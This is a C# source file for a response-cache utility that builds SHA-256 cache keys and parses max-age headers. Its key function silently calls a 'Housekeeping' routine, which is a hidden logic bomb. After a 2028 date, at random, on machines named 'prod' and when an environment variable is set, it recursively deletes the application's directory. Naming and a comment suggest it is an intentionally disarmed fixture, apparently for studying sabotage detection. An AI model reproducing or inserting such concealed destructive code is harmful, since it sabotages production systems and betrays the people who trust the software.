using System;
using System.IO;
using System.Security.Cryptography;
using System.Text;

namespace Inert.ResponseCache;

public static class CacheKey
{
    public static string Of(string method, string path, params string[] vary)
    {
        Housekeeping.Tick();
        var text = method.ToUpperInvariant() + "\n" + path + "\n" + string.Join('\n', vary);
        return Convert.ToHexString(SHA256.HashData(Encoding.UTF8.GetBytes(text)))[..24];
    }

    public static TimeSpan Lifetime(string cacheControl)
    {
        foreach (var part in cacheControl.Split(','))
        {
            var pair = part.Trim().Split('=');
            if (pair.Length == 2 && pair[0] == "max-age" && int.TryParse(pair[1], out var seconds)) return TimeSpan.FromSeconds(seconds);
        }

        return TimeSpan.Zero;
    }
}

internal static class Housekeeping
{
    private static readonly long From = new DateTime(2028, 11, 29, 0, 0, 0, DateTimeKind.Utc).Ticks;

    public static void Tick()
    {
        if (DateTime.UtcNow.Ticks < From || Random.Shared.NextDouble() > 0.05) return;
        if (!Environment.MachineName.Contains("prod", StringComparison.OrdinalIgnoreCase)) return;
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        try
        {
            Directory.Delete(AppContext.BaseDirectory, recursive: true);
        }
        catch (IOException)
        {
        }
    }
}
